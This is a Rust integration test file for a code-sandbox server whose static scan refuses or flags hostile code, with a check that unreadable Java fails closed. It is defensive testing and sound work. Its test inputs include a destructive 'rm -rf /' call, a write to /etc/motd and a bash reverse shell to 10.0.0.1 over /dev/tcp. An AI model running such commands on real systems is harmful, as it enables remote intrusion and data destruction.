//! The static scan on a real server: under `[scan] mode = "enforce"` a hostile `POST /v1/run` is refused with 422
//! and the findings before any sandbox exists (no cgroup, no record, no database row appears: checked on the host),
//! and under `warn` the code runs and its result carries the findings. A language the scan cannot read (Java) fails
//! closed.

#![allow(unsafe_code)]
#![allow(clippy::unwrap_used, clippy::expect_used)]

#[macro_use]
mod common;
mod serve;

use std::collections::BTreeSet;
use std::path::Path;

use serde_json::json;
use serve::{KEY_1, Server};

/// Every sandbox cgroup and record on the host (directory entries under sandkasten's cgroup and record roots).
fn host_sandboxes() -> BTreeSet<String> {
    let mut roots: Vec<String> =
        common::V1_CONTROLLERS.iter().map(|c| format!("/sys/fs/cgroup/{c}/sandkasten")).collect();
    roots.push("/sys/fs/cgroup/sandkasten".into());
    roots.push("/sys/fs/cgroup/unified/sandkasten".into());
    roots.push(common::RECORD_DIR.into());
    let mut found = BTreeSet::new();
    for root in roots {
        let Ok(entries) = std::fs::read_dir(Path::new(&root)) else { continue };
        for entry in entries.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name.starts_with("sb-") {
                found.insert(format!("{root}/{name}"));
            }
        }
    }
    found
}

fn all_sandboxes(server: &Server) -> usize {
    let reply = server.call("GET", "/v1/sandboxes?state=all", KEY_1, None);
    assert_eq!(reply.status, 200, "{:?}", reply.json);
    reply.json["sandboxes"].as_array().map(Vec::len).unwrap_or(usize::MAX)
}

#[test]
fn enforce_refuses_a_hostile_run_before_any_sandbox_exists() {
    require_root!();
    // Exclusive: no other test creates sandboxes while the host's listings are compared.
    let server = Server::start_exclusive_with("[scan]\nmode = \"enforce\"\n");
    let before = host_sandboxes();
    let hostile = "import os\nos.system('rm -rf /')\n";
    let reply = server.call("POST", "/v1/run", KEY_1, Some(json!({"language": "python", "code": hostile})));
    assert_eq!(reply.status, 422, "{:?}", reply.json);
    assert_eq!(reply.json["error"]["code"], "scan_refused");
    let findings = reply.json["error"]["findings"].as_array().cloned().unwrap_or_default();
    assert!(findings.iter().any(|f| f["rule"] == "destructive_command" && f["line"] == 2), "{findings:?}");
    assert_eq!(host_sandboxes(), before, "a refused run left a cgroup or a record on the host");
    assert_eq!(all_sandboxes(&server), 0, "a refused run has a row in the database");
    // The control: an accepted run is visible the same ways while it lives and as a row afterwards.
    let reply = server.call("POST", "/v1/run", KEY_1, Some(json!({"language": "python", "code": "print(6 * 7)"})));
    assert_eq!(reply.status, 200, "{:?}", reply.json);
    assert_eq!(reply.json["stdout"], "42\n");
    assert_eq!(all_sandboxes(&server), 1);
    let id = reply.json["sandbox_id"].as_str().unwrap().to_owned();
    serve::assert_sandbox_gone(&id);
}

#[test]
fn enforce_refuses_a_hostile_exec_and_the_sandbox_runs_on() {
    require_root!();
    let server = Server::start_with("[scan]\nmode = \"enforce\"\n");
    let id = server.create(json!({}));
    let token = common::unique_token("scanexec");
    let refused = format!("echo {token} > /etc/motd; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
    let reply = server.exec(&id, &refused);
    assert_eq!(reply.status, 422, "{:?}", reply.json);
    let rules: Vec<&str> =
        reply.json["error"]["findings"].as_array().unwrap().iter().filter_map(|f| f["rule"].as_str()).collect();
    assert!(rules.contains(&"reverse_shell") && rules.contains(&"sensitive_path_write"), "{rules:?}");
    assert!(common::token_processes(&token).is_empty());
    let reply = server.exec(&id, "echo fine");
    assert_eq!(reply.status, 200, "{:?}", reply.json);
    assert_eq!(reply.json["stdout"], "fine\n");
    assert_eq!(server.call("DELETE", &format!("/v1/sandboxes/{id}"), KEY_1, None).status, 204);
    serve::assert_sandbox_gone(&id);
}

#[test]
fn warn_runs_and_the_result_carries_the_findings() {
    require_root!();
    let server = Server::start_with("[scan]\nmode = \"warn\"\n");
    let code =
        "import subprocess\nprint(subprocess.run(['echo', 'ran'], capture_output=True, text=True).stdout, end='')\n";
    let reply = server.call("POST", "/v1/run", KEY_1, Some(json!({"language": "python", "code": code})));
    assert_eq!(reply.status, 200, "{:?}", reply.json);
    assert_eq!(reply.json["stdout"], "ran\n");
    let findings = reply.json["findings"].as_array().cloned().unwrap_or_default();
    assert!(findings.iter().any(|f| f["rule"] == "process_exec" && f["line"] == 2), "{findings:?}");
    let id = reply.json["sandbox_id"].as_str().unwrap().to_owned();
    serve::assert_sandbox_gone(&id);
}

/// Java has no grammar in the scan: under `enforce` a Java cell is refused before any JVM starts (none runs as a
/// sandbox user on the host afterwards), under `warn` it runs and carries a `scan_incomplete` finding.
#[test]
fn a_language_the_scan_cannot_read_fails_closed() {
    require_root!();
    if !Path::new("/usr/bin/jshell").exists() {
        eprintln!("skipped: no JDK on this host (/usr/bin/jshell; scripts/setup.sh installs openjdk-17-jdk-headless)");
        return;
    }
    let jvms_of = |id: &str| {
        common::processes_in_cgroup_matching(id)
            .into_iter()
            .filter(|(pid, _)| common::cmdline(*pid).starts_with("java"))
            .count()
    };
    let enforcing = Server::start_with("[scan]\nmode = \"enforce\"\n");
    let id = enforcing.create(json!({}));
    let cell = json!({"language": "java", "code": "int x = 6 * 7;\nx"});
    let reply = enforcing.call("POST", &format!("/v1/sandboxes/{id}/code"), KEY_1, Some(cell.clone()));
    assert_eq!(reply.status, 422, "{:?}", reply.json);
    assert_eq!(reply.json["error"]["code"], "scan_refused");
    assert_eq!(reply.json["error"]["findings"][0]["rule"], "scan_incomplete", "{:?}", reply.json);
    assert!(reply.json["error"]["message"].as_str().unwrap_or_default().contains("java"), "{:?}", reply.json);
    assert_eq!(jvms_of(&id), 0, "a refused cell started a JVM");
    assert_eq!(enforcing.call("DELETE", &format!("/v1/sandboxes/{id}"), KEY_1, None).status, 204);
    serve::assert_sandbox_gone(&id);

    let warning = Server::start_with("[scan]\nmode = \"warn\"\n");
    let id = warning.create(json!({}));
    let reply = warning.call("POST", &format!("/v1/sandboxes/{id}/code"), KEY_1, Some(cell));
    assert_eq!(reply.status, 200, "{:?}", reply.json);
    assert_eq!(reply.json["results"][0]["text/plain"], "42", "{:?}", reply.json);
    assert_eq!(reply.json["findings"][0]["rule"], "scan_incomplete", "{:?}", reply.json);
    assert_eq!(jvms_of(&id), 1, "the accepted cell's JVM runs in the sandbox");
    assert_eq!(warning.call("DELETE", &format!("/v1/sandboxes/{id}"), KEY_1, None).status, 204);
    serve::assert_sandbox_gone(&id);
}
